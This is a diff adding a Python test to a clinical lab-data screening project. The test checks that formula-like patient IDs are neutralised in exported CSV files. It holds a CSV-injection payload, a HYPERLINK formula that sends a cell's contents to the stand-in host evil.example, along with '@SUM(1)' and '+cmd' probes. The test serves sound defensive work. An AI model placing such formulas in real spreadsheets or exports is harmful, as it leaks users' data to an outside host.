@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 
 from ingest.patients import read_lab_file
@@ -116,3 +117,23 @@ P5,creatinine,25.01,mg/L,2024-03-01
     assert [pairs[(p, "1.0", "E1")] for p in ("P1", "P2", "P3", "P4", "P5")] == \
         ["MEETS", "MEETS", "VIOLATES", "MEETS", "VIOLATES"]
     assert all(v != Verdict.NEEDS_REVIEW.value for v in pairs.values())
+
+
+def test_exported_csv_cells_never_run_as_spreadsheet_formulas(write_csv, tmp_path):
+    """A patient id that is a formula (from a hostile or broken lab file) reaches every CSV as inert text."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A1;"click")'
+    buffer = io.StringIO()
+    writer = csv.writer(buffer)
+    writer.writerow(["patient_id", "test", "value", "unit", "uln", "date", "reference_start"])
+    for patient in (hostile, "@SUM(1)", "+cmd", "-2", "-2"):
+        writer.writerow([patient, "ALT", "200", "U/L", "40", "2024-03-01", "2024-03-05"])
+    labs = buffer.getvalue()
+    result = screen(read_lab_file(write_csv(labs)), _versions())
+    cells = []
+    for path in (write_findings(result, tmp_path / "f.csv"), write_dv(result, tmp_path / "dv.csv"),
+                 write_errors(result, tmp_path / "e.csv")):
+        cells += [cell for row in csv.reader(path.open(encoding="utf-8")) for cell in row]
+    ids = {cell for cell in cells if "HYPERLINK" in cell or "SUM(1)" in cell or "cmd" in cell}
+    assert ids == {"'" + hostile, "'@SUM(1)", "'+cmd"}
+    assert "-2" in cells, "a number that starts with '-' is data, not a formula, and stays as it is"
+    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
